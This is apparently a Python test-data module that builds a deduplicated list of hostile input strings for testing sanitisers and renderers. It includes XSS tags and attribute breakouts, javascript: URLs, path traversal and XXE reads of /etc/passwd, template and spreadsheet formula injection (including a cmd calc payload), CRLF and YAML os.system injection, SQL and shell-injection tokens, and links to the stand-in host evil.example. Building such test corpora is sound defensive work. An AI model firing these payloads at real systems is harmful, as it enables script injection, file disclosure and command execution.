"""Hostile strings: what somebody could write into a field, a cell, a draft or an address so that it does more than to be read.

Each is a plain value. What they would do can be seen: elements carry the attribute ``pwn``, scripts call ``pwn()``, addresses
lead to ``evil.example``, and whatever computes turns ``1337*1337`` into ``COMPUTED``.
"""

from __future__ import annotations

from functools import cache
from itertools import product

MARK = "pwn"
"""The name of the attribute and of the function of every attack."""
EVIL = "evil.example"
COMPUTED = str(1337 * 1337)

_OUT = ("", "\"'>", "</title>", "</script>", "</textarea></style>", "--><!--", "]]>", "&lt;/p&gt;</p>")
"""What ends the place that a text stands in."""
_ELEMENTS = (
    "<script pwn>pwn()</script>",
    "<img pwn src=x onerror=pwn()>",
    "<svg pwn onload=pwn()>",
    "<iframe pwn srcdoc='<script>parent.pwn()</script>'>",
    "<a pwn href=javascript:pwn()>x</a>",
    "<form pwn action=//evil.example><input pwn autofocus onfocus=pwn()>",
    "<style pwn>@import '//evil.example/x.css'</style>",
    "<meta pwn http-equiv=refresh content='0;url=//evil.example'>",
    "<base pwn href=//evil.example/>",
    "<details pwn open ontoggle=pwn()>",
    "<math pwn><mtext></p><img pwn src onerror=pwn()>",
    "<object pwn data=//evil.example></object>",
    "<link pwn rel=stylesheet href=//evil.example/x.css>",
    "<template pwn><script>pwn()</script>",
)
_ATTRIBUTES = (
    '" pwn onmouseover="pwn()',
    "' pwn onfocus='pwn()' autofocus='",
    "` pwn onerror=pwn() `",
    '"><b pwn>',
    "x pwn onclick=pwn() y",
    '" pwn style="background:url(//evil.example/x)',
    "\" pwn src='//evil.example/x' \"",
    "&quot; pwn onload=&quot;pwn()",
    '\\" pwn onerror=\\"pwn()',
    '"/pwn/onerror="pwn()',
)
_ADDRESSES = (
    "javascript:pwn()",
    "JaVaScRiPt:pwn()",
    "java\tscript:pwn()",
    "\x01javascript:pwn()",
    "javascript&colon;pwn()",
    "data:text/html,<script pwn>pwn()</script>",
    "vbscript:pwn()",
    "//evil.example/x",
    "\\\\evil.example\\x",
    "/\\evil.example/x",
    'https://evil.example/"onmouseover=pwn()//',
    "https://a.example@evil.example/",
    "file:///etc/passwd",
    "blob:https://evil.example/x",
    "https:evil.example",
    "mailto:a@evil.example?bcc=b@evil.example",
    "tel:119;ext=pwn",
    "../../../../etc/passwd",
    "..%2f..%2fetc%2fpasswd",
    "/r/../../evil",
    "con.html",
    "https://evil.example/?a=1&b=2#<script pwn>",
)
_MARKDOWN = (
    "[x](javascript:pwn())",
    "![x](//evil.example/x.png)",
    "[x](https://evil.example/){ pwn onclick=pwn() }",
    "{: pwn onclick=pwn() }",
    "<https://evil.example/>",
    "[x]: javascript:pwn()",
    "# 見出し {#pwn}",
    "```html\n<script pwn>pwn()</script>\n```",
    '--8<-- "/etc/passwd"',
    "*[HTML]: <b pwn>",
    '!!! danger "<b pwn>"\n    x',
    "<!-- pwn -->",
    "| a | b |\n|---|---|\n| <b pwn> | c |",
    "[^1]: <img pwn src=//evil.example>",
    "~~<b pwn>~~",
    "---\ntitle: pwn\n---",
)
_TEMPLATES = (
    "{{ 1337*1337 }}",
    "{% for a in (1,) %}{{ 1337*1337 }}{% endfor %}",
    "{{ cycler.__init__.__globals__ }}",
    "${1337*1337}",
    "`${1337*1337}`",
    "#{1337*1337}",
    "<%= 1337*1337 %>",
    "{0.__class__}{pwn}{town}",
    "%s%n%(name)s",
    "$name ${name}",
    "#(1337*1337)",
    '#eval("1337*1337")',
    '#read("/etc/passwd")',
    '#import "@preview/x:1.0.0"',
    "]#(1337*1337)[",
    '") #(1337*1337) ("',
    "$ 1337 dot 1337 $",
    "= 見出し <pwn>",
    "\\u{70}\\u{77}\\u{6e}",
    "@pwn <pwn>",
    "/* pwn */ // pwn",
    "\\input{/etc/passwd}",
)
_FORMULAS = tuple(
    before + sign + what
    for before, (sign, what) in product(
        ("", " ", "\t", "\n", "\u3000", "'"),
        (
            ("=", "1337*1337"),
            ("+", "1337*1337"),
            ("-", "1337*1337"),
            ("@", "SUM(1337*1337)"),
            ("＝", "1337*1337"),
            ("＋", "cmd|' /C calc'!A0"),
            ("=", 'HYPERLINK("https://evil.example/","pwn")'),
        ),
    )
)
_LINES = (
    "a\r\nATTACH:https://evil.example/x",
    "a\nEND:VEVENT\nBEGIN:VEVENT\nSUMMARY:pwn",
    "a\nTEL:119\nURL:https://evil.example/",
    "a\\nURL:https://evil.example/",
    "a;TZID=pwn:b,c\\,d",
    "a\u2028ATTACH:pwn",
    "a\u2029URL:pwn",
    "a\x85ATTACH:pwn",
    "a\x0bb\x0cc\x1cd",
    "a\r\n\r\n<script pwn>pwn()</script>",
    "::error file=x::pwn",
    "\n::set-output name=a::pwn",
    "\x1b[2J\x1b]0;pwn\x07",
    "a\x00b",
    "a\x7fb\x9bc",
    'a,b";"c\td',
    '","pwn","',
    "a\n- b\n- c: d",
    "a: b # c",
    "&a *a !!python/object/apply:os.system [pwn]",
    "\ufeffa\ufffe",
)
_LETTERS = (
    "さくらZ\u0337体操",
    "か\u3099き\u309a",
    "葛\U000e0100城",
    "e\u0301" * 30,
    "Z" + "\u0335\u0336\u0337\u0338" * 20,
    "\u202epwn\u202c",
    "\u2066a\u2069\u200f\u200e",
    "a\u200bb\u200cc\u200dd\u2060e\ufeff",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "\U0001f1ef\U0001f1f5",
    "\U000f0000\ue000",
    "\ud7a3\u1100\u1161\u11a8",
    "ﷺ﷽",
    "\u0601１٣",
    "𝔭𝔴𝔫 𝒙",
    "ｐｗｎ（）＜ｓｃｒｉｐｔ＞",
    "＂＞＜img pwn src=x onerror=pwn()＞",
    "ͥḁ̈ A̵͓͝",
    "⿰木木 㐂𠮷野家",
    "İıſKÅ",
    "ﬀﬃ ㍻㌖㈱№",
    "\U0001d7d9\U0001d7da",
    "\u3164\u115f",
    "〆ゝゞ々ヽヾ",
    "あ" * 300,
    "W" * 300,
    "あ " * 150,
    "\n" * 40 + "x",
    "祝日" * 60,
    "(" * 100,
    "9" * 120,
)
_WORDS = (
    "null", "true", "NaN", "undefined", "__proto__", "constructor", "toString", "hasOwnProperty", "-0", "1e309", "0x1F", "1_000", "08", "12:30:45", "2026-02-30",
    "' OR '1'='1", "'; DROP TABLE records; --", "$(pwn)", "`pwn`", "| pwn", "; pwn", "&& pwn", "%00", "%0d%0aSet-Cookie:pwn", "\\", "\\\\", "\\'", "\"", "'", "`", "<", ">",
    "&", "&amp;", "&#0;", "&#x70;wn", "<!", "<?xml version='1.0'?>", "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>", "]]>", "<![CDATA[", "{", "}", "[", "]",
    '{"@context":"https://evil.example"}', "</script", "<script", "<!--<script", "*/", "/*", "//", "#", "?", "..", ".", "~", "-", "--", "aux", "C:\\x",
)  # fmt: skip


@cache
def strings() -> tuple[str, ...]:
    """Return every hostile string once, those that differ most from each other first."""
    elements = [out + element for element, out in product(_ELEMENTS, _OUT)]
    groups = [elements, _ATTRIBUTES, _ADDRESSES, _MARKDOWN, _TEMPLATES, _FORMULAS, _LINES, _LETTERS, _WORDS]
    shares = [(index / len(group), one) for group in groups for index, one in enumerate(group)]
    return tuple(dict.fromkeys(one for _, one in sorted(shares, key=lambda share: share[0])))
